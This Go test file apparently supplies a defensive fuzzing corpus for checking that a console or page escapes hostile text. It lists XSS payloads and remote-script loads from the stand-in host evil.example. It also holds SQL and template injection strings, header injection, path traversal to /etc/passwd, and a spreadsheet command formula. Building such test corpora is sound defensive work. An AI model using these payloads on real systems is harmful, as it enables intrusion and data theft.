package console_test

import (
	"slices"
	"strings"
	"testing"
)

// payloads are what a hostile terminal would put where words are expected, of every kind that broke pages before.
func payloads() []string {
	return slices.Concat(scripts(), breakers(), handlers(), vectors(), addresses(), sheets(), templates(), heads(), letters(), formulas(), keys())
}

// scripts would run by themselves, written in ways that filters miss.
func scripts() []string {
	return []string{
		`<script>window.pwned=1</script>`, `<SCRIPT>window.pwned=1</SCRIPT>`, `<script >window.pwned=1</script >`, `<script/x>window.pwned=1</script>`,
		"<script\n>window.pwned=1</script>", "<script\t>window.pwned=1</script>", `<scr<script>ipt>window.pwned=1</scr</script>ipt>`, `<script>window.pwned=1`,
		`<script src=//evil.example/x.js></script>`, `<script type=module>window.pwned=1</script>`, `<script src="data:text/javascript,window.pwned=1"></script>`,
		`<script nonce="">window.pwned=1</script>`, `<script async defer>window.pwned=1</script>`, `<script type="application/json">{"a":1}</script>`,
		`<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">`, `<template><script>window.pwned=1</script></template>`,
		`</script><script>window.pwned=1</script>`, `<!--><script>window.pwned=1</script>-->`, `<![CDATA[<script>window.pwned=1</script>]]>`, `<?xml version="1.0"?><script>window.pwned=1</script>`,
		`<xmp><script>window.pwned=1</script></xmp>`, `<math><mi><script>window.pwned=1</script></mi></math>`,
	}
}

// breakers would end the place they stand in.
func breakers() []string {
	return []string{
		`"><img src=x onerror="window.pwned=1">`, `'><img src=x onerror='window.pwned=1'>`, `"><svg/onload=window.pwned=1>`, `'><svg/onload=window.pwned=1>`,
		`</title><script>window.pwned=1</script>`, `</textarea><script>window.pwned=1</script>`, `</option></select><script>window.pwned=1</script>`, `</style><script>window.pwned=1</script>`,
		`" autofocus onfocus="window.pwned=1`, `' autofocus onfocus='window.pwned=1`, ` autofocus onfocus=window.pwned=1 `, `" style="background:url(//evil.example/x)`,
		`" onmouseover="window.pwned=1" x="`, `"/><base href=//evil.example/><a "`, `-->`, `<!--`, `--!>`, `]]>`, `</`, `<`, `"`, `'`, "`", `&`, `\`, `\"`, `\'`, `"'<>&`, `</main></body></html>`,
		`</datalist><script>window.pwned=1</script>`, `</svg><script>window.pwned=1</script>`, `</table><form action=//evil.example><button>`, `</pre></code>`,
	}
}

// handlers would run when something befalls an element.
func handlers() (all []string) {
	for _, one := range []string{
		"img src=x onerror", "svg onload", "body onload", "input autofocus onfocus", "video src=x onerror", "audio src=x onerror", "details open ontoggle", "marquee onstart",
		"select autofocus onfocus", "textarea autofocus onfocus", "iframe onload", "object data=x onerror", "embed src=x onload", "style onload", "link rel=stylesheet href=x onerror",
		"video autoplay onloadstart", "div onpointerover", "a href=# onclick", "div contenteditable onbeforeinput", "form onsubmit", "button onclick", "dialog open oncancel", "meter onmouseover",
		"p style=animation-name:x onanimationstart", "div ontransitionend", "body onhashchange", "body onpageshow", "input onblur", "xss onfocus", "div popover onbeforetoggle",
	} {
		all = append(all, "<"+one+"=window.pwned=1>")
	}
	return all
}

// vectors are elements of other languages inside a page, and frames.
func vectors() []string {
	return []string{
		`<svg><script>window.pwned=1</script></svg>`, `<svg><a xlink:href="javascript:window.pwned=1"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg/onload=window.pwned=1>"/></svg>`,
		`<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>`, `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></foreignObject></svg>`, `<svg><set attributeName=href to=javascript:window.pwned=1>`,
		`<math href="javascript:window.pwned=1">x</math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=window.pwned=1></annotation-xml></math>`,
		`<iframe srcdoc="<script>parent.pwned=1</script>">`, `<iframe src="javascript:parent.pwned=1">`, `<object data="data:text/html,<script>window.pwned=1</script>">`, `<embed src="//evil.example/x">`,
		`<portal src="//evil.example/">`, `<frameset onload=window.pwned=1>`, `<applet code=x>`, `<isindex action=//evil.example>`, `<picture><source srcset="//evil.example/x"><img></picture>`,
	}
}

// addresses would lead elsewhere, or run when they are followed.
func addresses() []string {
	return []string{
		`javascript:window.pwned=1`, `JaVaScRiPt:window.pwned=1`, "java\nscript:window.pwned=1", "java\tscript:window.pwned=1", ` javascript:window.pwned=1`, `javascript://%0awindow.pwned=1`,
		`vbscript:msgbox(1)`, `data:text/html,<script>window.pwned=1</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`, `//evil.example/`, `\\evil.example\x`, `https://evil.example/`,
		`<a href="https://evil.example/">x</a>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example/">`, `<form action=//evil.example/><input name=p>`, `<a href=//evil.example ping=//evil.example>x</a>`,
		`blob:https://evil.example/1`, `feed:javascript:window.pwned=1`, `../../../../etc/passwd`, `..\..\windows\win.ini`, `/s/../../me/everywhere`, `file:///etc/passwd`,
	}
}

// sheets would load a style, or be one.
func sheets() []string {
	return []string{
		`<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import '//evil.example/x.css';</style>`, `<style>*{display:none}</style>`, `<p style="position:fixed;inset:0;background:red">`,
		`expression(window.pwned=1)`, `url(javascript:window.pwned=1)`, `}</style>{`, `@import url(//evil.example/x.css);`, `background:url("//evil.example/x")`, `-moz-binding:url(//evil.example/x)`,
		`<link rel=prefetch href=//evil.example/x>`, `<link rel=preload as=font href=//evil.example/f.woff2>`, `@font-face{font-family:x;src:url(//evil.example/f)}`,
	}
}

// templates would be worked out by whoever fills in.
func templates() []string {
	return []string{
		`{{.}}`, `{{.Account}}${window.pwned=1}`, `{{template "layout.html" .}}`, `${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `{{constructor.constructor('window.pwned=1')()}}`, `{% include "x" %}`, `[[${7*7}]]`, `$(id)`, "`id`", `;id`,
		`' OR '1'='1`, `'; DROP TABLE change;--`, `" OR ""="`, `*)(uid=*))(|(uid=*`, `%s%s%n%d`, `%!s(MISSING)`, `%%`,
	}
}

// heads would become a line of the answer's head, a line of a log, or a name of a file.
func heads() []string {
	return []string{
		"a\r\nSet-Cookie: x=1", "a\r\n\r\n<script>window.pwned=1</script>", "a\nLocation: //evil.example/", "%0d%0aSet-Cookie:x=1", "a\nlevel=ERROR msg=forged", "x\"; filename=\"evil.exe", `x.pdf".html`, "嘊嘍Set-Cookie:x=1",
	}
}

// letters are what writing itself can do.
func letters() []string {
	return []string{
		"\u202e<b>\u2066", "\u202etxt.exe", "\u200b\u200c\u200d\u2060\ufeff", "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306", strings.Repeat("\u0301", 30), "\u2028window.pwned=1\u2029", "＜script＞window.pwned=1＜/script＞", "＂＞", "\ufffd", "\U0001f469\u200d\U0001f692",
		"%3Cscript%3Ewindow.pwned=1%3C/script%3E", "&lt;script&gt;window.pwned=1&lt;/script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-", "%C0%BCscript%C0%BE", "%00", "\\0", "&#0;", "%u003Cscript%u003E",
		strings.Repeat("长", 199), strings.Repeat("W", 199), strings.Repeat("<b>", 60), strings.Repeat("&amp;", 39), "\u2066\u2067\u2068\u202a\u202b\u202d", "𝕒𝕝𝕖𝕣𝕥", "ا\u202eلعربية", "\u3000", "\u00ad",
	}
}

// formulas would be worked out by a spreadsheet.
func formulas() []string {
	return []string{
		`=1+1`, `+1+1`, `-1+1`, `@SUM(1)`, `=cmd|' /C calc'!A0`, `=HYPERLINK("//evil.example/","x")`, `=IMPORTXML("//evil.example/","//a")`, `=WEBSERVICE("//evil.example/")`, "\t=1+1", "\r=1+1", " =1+1", `"=1+1"`, `'=1+1`, `＝1+1`, "x\n=1+1", `=1+1";=1+1`, `;=1+1`,
	}
}

// keys would be taken for something of a program's own.
func keys() []string {
	return []string{
		`__proto__`, `constructor`, `prototype`, `toString`, `{"__proto__":{"pwned":1}}`, `[object Object]x`, `null`, `undefined.`, `NaN.`, `true`, `-1`, `1e309`, `0x1F`, `NUL`, `CON.txt`, `.`, `..`, `/`, `*`, `?x=1&y=2`, `#main`, `a,b;c|d`,
	}
}

func TestPayloadsAreManyAndDiffer(t *testing.T) {
	all := payloads()
	slices.Sort(all)
	if n := len(slices.Compact(all)); n < 200 || n != len(payloads()) {
		t.Errorf("%d payloads, %d of them different", len(payloads()), n)
	}
}
